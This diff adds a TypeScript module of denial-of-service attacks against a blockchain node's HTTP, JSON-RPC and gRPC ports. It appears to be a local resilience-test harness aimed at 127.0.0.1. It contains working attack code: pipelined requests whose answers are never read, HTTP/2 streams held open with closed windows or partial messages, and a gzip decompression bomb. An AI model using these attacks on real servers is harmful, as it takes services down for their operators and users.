@@ -1,0 +1,162 @@
+/** Clients who ask for much over one connection and read nothing of it. */
+
+import { connect as connectHttp2 } from "node:http2";
+import { connect, type Socket } from "node:net";
+import { setTimeout as sleep } from "node:timers/promises";
+import { gzipSync } from "node:zlib";
+import { type Attack, attackerHost, tally } from "../attack.js";
+
+const CONNECTIONS = 4;
+
+/** Numbers of the chain's heavy blocks, in turns. */
+const heavyBlock = (n: number): number => 41 + (n % 30);
+
+const pipelined = (
+	name: string,
+	sends: string,
+	server: "http" | "jsonrpc",
+	request: (n: number) => string,
+): Attack => ({
+	name,
+	sends,
+	async run({ ports }, durationMs) {
+		const sockets: Socket[] = [];
+		let closed = 0;
+		const text = Buffer.from(Array.from({ length: 400 }, (_, n) => request(n)).join(""));
+		for (let n = 0; n < CONNECTIONS; n++) {
+			const socket = connect({ host: "127.0.0.1", port: ports[server], localAddress: attackerHost(n) });
+			socket.on("error", () => {});
+			socket.on("close", () => closed++);
+			// Nothing is read: what the node answers stays with it.
+			socket.pause();
+			socket.write(text);
+			sockets.push(socket);
+		}
+		await sleep(durationMs);
+		for (const socket of sockets) socket.destroy();
+		return `${CONNECTIONS - closed} of ${CONNECTIONS} kept`;
+	},
+});
+
+const grpcUnread: Attack = {
+	name: "grpc-unread",
+	sends: "2,000 gRPC calls of 450 KB answers over 2 connections whose windows stay closed",
+	async run({ ports }, durationMs) {
+		const frame = (n: number): Buffer => Buffer.of(0, 0, 0, 0, 2, 8, heavyBlock(n));
+		const sessions = [0, 1].map((n) => {
+			const session = connectHttp2(`http://127.0.0.1:${ports.grpc}`, {
+				settings: { initialWindowSize: 0 },
+				createConnection: () =>
+					connect({ host: "127.0.0.1", port: ports.grpc, localAddress: attackerHost(n) }),
+			});
+			session.on("error", () => {});
+			return session;
+		});
+		let refused = 0;
+		const end = Date.now() + durationMs;
+		for (let n = 0; n < 2000 && Date.now() < end; n++) {
+			const session = sessions[n % 2];
+			if (!session || session.destroyed) break;
+			const stream = session.request({
+				":method": "POST",
+				":path": "/protocol.Wallet/GetBlockByNum",
+				"content-type": "application/grpc",
+				te: "trailers",
+			});
+			stream.on("error", () => refused++);
+			stream.end(frame(n));
+			if (n % 50 === 0) await sleep(10);
+		}
+		await sleep(Math.max(0, end - Date.now()));
+		for (const session of sessions) session.destroy();
+		return `${refused} refused`;
+	},
+};
+
+/** Opens streams over HTTP/2 that never end. @param first what each of them sends */
+const openStreams = (name: string, sends: string, count: number, headers: object, first: Buffer): Attack => ({
+	name,
+	sends,
+	async run({ ports }, durationMs) {
+		const sessions = [0, 1, 2, 3].map((n) => {
+			const session = connectHttp2(`http://127.0.0.1:${ports.grpc}`, {
+				maxSessionMemory: 1_000,
+				createConnection: () =>
+					connect({ host: "127.0.0.1", port: ports.grpc, localAddress: attackerHost(n) }),
+			});
+			session.on("error", () => {});
+			return session;
+		});
+		const outcomes: string[] = [];
+		const end = Date.now() + durationMs;
+		for (let n = 0; n < count && Date.now() < end; n++) {
+			const session = sessions[n % sessions.length];
+			if (!session || session.destroyed) continue;
+			const stream = session.request({
+				":method": "POST",
+				":path": "/protocol.Wallet/GetAccount",
+				"content-type": "application/grpc",
+				te: "trailers",
+				...headers,
+			});
+			stream.on("error", () => outcomes.push("refused"));
+			stream.on("response", (answer) => outcomes.push(`status ${answer["grpc-status"]}`));
+			if (first.length > 0) stream.write(first);
+			if (n % 50 === 0) await sleep(5);
+		}
+		await sleep(Math.max(0, end - Date.now()));
+		const kept = sessions.filter((session) => !session.destroyed).length;
+		for (const session of sessions) session.destroy();
+		return `${kept} of ${sessions.length} connections kept; ${tally(outcomes)}`;
+	},
+});
+
+/** A message without its last bytes. */
+const partial = Buffer.concat([Buffer.of(0, 0, 0x3d, 0x09, 0), Buffer.alloc(3_900_000)]);
+
+/** Four messages in one frame of HTTP/2, of 4 MB each when they are unpacked. */
+const bomb = ((): Buffer => {
+	const packed = gzipSync(Buffer.alloc(4_000_000));
+	const message = Buffer.concat([Buffer.of(1, 0, 0, packed.length >> 8, packed.length & 0xff), packed]);
+	return Buffer.concat(Array(4).fill(message));
+})();
+
+export const unreadAnswers: readonly Attack[] = [
+	pipelined(
+		"pipelined-blocks",
+		"400 queries of blocks of 450 KB on each of 4 connections at once, nothing read",
+		"http",
+		(n) => `GET /wallet/getblockbynum?num=${heavyBlock(n)} HTTP/1.1\r\nHost: a\r\n\r\n`,
+	),
+	pipelined(
+		"pipelined-rpc",
+		"400 JSON-RPC queries of blocks of 450 KB on each of 4 connections at once, nothing read",
+		"jsonrpc",
+		(n) => {
+			const body = `{"jsonrpc":"2.0","id":1,"method":"eth_getBlockByNumber","params":["0x${heavyBlock(n).toString(16)}",true]}`;
+			return `POST /jsonrpc HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
+		},
+	),
+	grpcUnread,
+	openStreams(
+		"grpc-open",
+		"20,000 gRPC calls over 4 connections that never say anything",
+		20_000,
+		{},
+		Buffer.alloc(0),
+	),
+	openStreams(
+		"grpc-partial",
+		"400 gRPC calls that send 3.9 MB of a message of 4 MB, and no more",
+		400,
+		{},
+		partial,
+	),
+	openStreams(
+		"grpc-gzip",
+		"400 gRPC calls that never end, each with four messages of 4 MB packed in 16 KB",
+		400,
+		{ "grpc-encoding": "gzip" },
+		bomb,
+	),
+];
